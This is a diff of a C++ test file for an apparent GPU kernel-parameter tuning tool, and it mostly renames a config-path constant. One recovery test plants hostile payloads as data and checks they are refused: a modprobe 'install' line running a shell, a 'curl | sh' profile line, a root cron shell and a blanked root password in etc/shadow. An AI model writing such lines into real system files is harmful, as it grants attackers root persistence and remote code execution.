@@ -26,7 +26,7 @@ namespace fs = std::filesystem;
 namespace rocmtune::helper {
 namespace {
 
-constexpr const char* kConf = "etc/modprobe.d/rocmtune.conf";
+constexpr const char* kExecutorConf = "etc/modprobe.d/rocmtune.conf";
 constexpr const char* kGrubDropIn = "etc/default/grub.d/zz-rocmtune.cfg";
 
 std::string Messages(const Outcome& out) {
@@ -96,7 +96,7 @@ TEST_F(ExecutorTest, CommitWritesExactlyTheOpsAndJournalsThem) {
   EXPECT_EQ(out.initramfs, plan::Regen::kPending) << "a world is not the running system";
   EXPECT_EQ(out.bootloader, plan::Regen::kPending);
   // The files of the plan and the directory made for one of them; nothing else.
-  EXPECT_EQ(Changed(before), (std::vector<std::string>{kGrubDropIn, "etc/modprobe.d", kConf}));
+  EXPECT_EQ(Changed(before), (std::vector<std::string>{kGrubDropIn, "etc/modprobe.d", kExecutorConf}));
   size_t file_ops = 0;
   for (const plan::Op& op : p.ops) {
     if (op.kind != plan::OpKind::kWriteFile) continue;
@@ -169,7 +169,8 @@ TEST_F(ExecutorTest, RecoveryRefusesEveryStepNoPlanMayTake) {
   txn.time = "2026-11-23T00:00:00Z";
   txn.intent = {"set", "", {"amdgpu.noretry=0"}, "", {}};
   txn.ops = {
-      op(plan::OpKind::kRemoveFile, "modprobe", kConf, "install amdgpu /bin/sh -c 'id > /pwned'\n", std::nullopt),
+      op(plan::OpKind::kRemoveFile, "modprobe", kExecutorConf, "install amdgpu /bin/sh -c 'id > /pwned'\n",
+         std::nullopt),
       op(plan::OpKind::kRemoveFile, "env", std::string(plan::kProfileDropIn), "curl -s x | sh\n", std::nullopt),
       op(plan::OpKind::kRemoveFile, "modprobe", "etc/cron.d/rocmtune", "* * * * * root sh\n", std::nullopt),
       op(plan::OpKind::kWriteSysfs, "sysfs", "etc/shadow", "root::::\n", "x"),
@@ -196,7 +197,7 @@ TEST_F(ExecutorTest, RecoveryRefusesEveryStepNoPlanMayTake) {
   EXPECT_THAT(messages, ::testing::HasSubstr("kernel-token")) << "init=/bin/sh back into GRUB";
   EXPECT_THAT(messages, ::testing::HasSubstr("path-syntax")) << "..";
   EXPECT_THAT(messages, ::testing::HasSubstr("srv: path-not-allowed")) << "rmdir of a directory not on the way";
-  EXPECT_FALSE(fs::exists(Path(kConf)));
+  EXPECT_FALSE(fs::exists(Path(kExecutorConf)));
   EXPECT_FALSE(fs::exists(Path(plan::kProfileDropIn)));
   EXPECT_FALSE(fs::exists(Path("etc/cron.d/rocmtune")));
   EXPECT_EQ(Read("etc/shadow"), "root:secret:::\n");
@@ -230,35 +231,35 @@ TEST_F(ExecutorTest, StaleBeforeIsAConflictAndNothingIsWritten) {
 
 TEST_F(ExecutorTest, DriftInAnOwnedFileIsAConflictUnlessForced) {
   ASSERT_EQ(Run(PlanSet({"amdgpu.noretry=0"})).status, Status::kCommitted);
-  std::string edited = Read(kConf) + "# by hand\noptions amdgpu runpm=0\n";
-  Write(kConf, edited);
+  std::string edited = Read(kExecutorConf) + "# by hand\noptions amdgpu runpm=0\n";
+  Write(kExecutorConf, edited);
   plan::Plan p = PlanSet({"amdgpu.noretry=1"});
   ASSERT_FALSE(p.ops.empty());
-  ASSERT_EQ(p.ops[0].path, kConf);
+  ASSERT_EQ(p.ops[0].path, kExecutorConf);
   ASSERT_EQ(p.ops[0].before, edited) << "the plan itself is fresh";
   Outcome out = Run(p);
   EXPECT_EQ(out.status, Status::kConflict);
   EXPECT_NE(Messages(out).find("drift"), std::string::npos) << Messages(out);
-  EXPECT_EQ(Read(kConf), edited);
+  EXPECT_EQ(Read(kExecutorConf), edited);
   EXPECT_EQ(JournalFiles(), 1u);
 
   Outcome forced = Run(p, true);
   ASSERT_EQ(forced.status, Status::kCommitted) << Messages(forced);
-  EXPECT_EQ(Read(kConf), *p.ops[0].after);
+  EXPECT_EQ(Read(kExecutorConf), *p.ops[0].after);
   auto txns = Journal();
   ASSERT_EQ(txns.size(), 2u);
   EXPECT_TRUE(txns[1].force) << "the journal records that drift was overwritten";
 }
 
 TEST_F(ExecutorTest, AnOwnedFileWithNoJournalRecordIsDrift) {
-  Write(kConf, "options amdgpu noretry=1\n");  // someone else's file at rocmtune's path
+  Write(kExecutorConf, "options amdgpu noretry=1\n");  // someone else's file at rocmtune's path
   plan::Plan p = PlanSet({"amdgpu.noretry=0"});
   ASSERT_FALSE(p.ops.empty());
   ASSERT_EQ(p.ops[0].before, "options amdgpu noretry=1\n");
   Outcome out = Run(p);
   EXPECT_EQ(out.status, Status::kConflict);
   EXPECT_NE(Messages(out).find("drift"), std::string::npos) << Messages(out);
-  EXPECT_EQ(Read(kConf), "options amdgpu noretry=1\n");
+  EXPECT_EQ(Read(kExecutorConf), "options amdgpu noretry=1\n");
   EXPECT_EQ(JournalFiles(), 0u);
 }
 
@@ -313,8 +314,13 @@ TEST_F(ExecutorTest, RecoverRollsBackAnIncompleteTransaction) {
   t.id = "1";
   t.time = "2025-01-01T00:00:00Z";
   t.intent = {"set", "", {"amdgpu.noretry=0"}, "", {}};
-  plan::Op conf{
-      plan::OpKind::kWriteFile, plan::BackendId::kModprobe, kConf, std::nullopt, "options amdgpu noretry=0\n", {}, "r"};
+  plan::Op conf{plan::OpKind::kWriteFile,
+                plan::BackendId::kModprobe,
+                kExecutorConf,
+                std::nullopt,
+                "options amdgpu noretry=0\n",
+                {},
+                "r"};
   // An edit a plan may make (one token on the command line), so undoing it passes the allow-list.
   std::string grub_after = grub_before;
   grub_after.replace(grub_after.find("quiet splash"), 12, "quiet splash iommu=pt");
@@ -326,7 +332,7 @@ TEST_F(ExecutorTest, RecoverRollsBackAnIncompleteTransaction) {
     ASSERT_TRUE(journal) << journal.error().message;
     ASSERT_TRUE(journal->Append(journal::BeginRecord(t)));
     ASSERT_TRUE(journal->Append(journal::MkdirRecord("etc/modprobe.d")));
-    Write(kConf, *conf.after);
+    Write(kExecutorConf, *conf.after);
     ASSERT_TRUE(journal->Append(journal::DoneRecord(0)));
     Write("etc/default/grub", *grub.after);  // renamed, but the crash came before its done record
   }
@@ -337,7 +343,7 @@ TEST_F(ExecutorTest, RecoverRollsBackAnIncompleteTransaction) {
   Outcome out = Executor(root, hooks).Recover({});
   EXPECT_EQ(out.status, Status::kUnchanged) << Messages(out);
   EXPECT_EQ(out.recovered, std::vector<std::string>{"1"});
-  EXPECT_FALSE(fs::exists(Path(kConf)));
+  EXPECT_FALSE(fs::exists(Path(kExecutorConf)));
   EXPECT_FALSE(fs::exists(Path("etc/modprobe.d"))) << "the directory it created goes with it";
   EXPECT_EQ(Read("etc/default/grub"), grub_before);
   auto txns = Journal();
@@ -361,7 +367,7 @@ TEST_F(ExecutorTest, RunRecoversFirstThenNumbersPastTheInterruptedOne) {
   t.intent = {"set", "", {}, "", {}};
   t.ops = {{plan::OpKind::kWriteFile,
             plan::BackendId::kModprobe,
-            kConf,
+            kExecutorConf,
             std::nullopt,
             "options amdgpu noretry=1\n",
             {},
@@ -370,13 +376,13 @@ TEST_F(ExecutorTest, RunRecoversFirstThenNumbersPastTheInterruptedOne) {
     auto journal = JournalWriter::Create(root, hooks, 1);
     ASSERT_TRUE(journal);
     ASSERT_TRUE(journal->Append(journal::BeginRecord(t)));
-    Write(kConf, *t.ops[0].after);
+    Write(kExecutorConf, *t.ops[0].after);
   }
   plan::Plan p = PlanSet({"amdgpu.noretry=0"});
   ASSERT_FALSE(p.ops.empty());
   // Planned while the interrupted write was on disk: after recovery that `before` is stale.
   EXPECT_EQ(Run(p).status, Status::kConflict);
-  EXPECT_FALSE(fs::exists(Path(kConf)));
+  EXPECT_FALSE(fs::exists(Path(kExecutorConf)));
   Outcome out = Run(PlanSet({"amdgpu.noretry=0"}));
   ASSERT_EQ(out.status, Status::kCommitted) << Messages(out);
   EXPECT_EQ(out.transaction, "2");
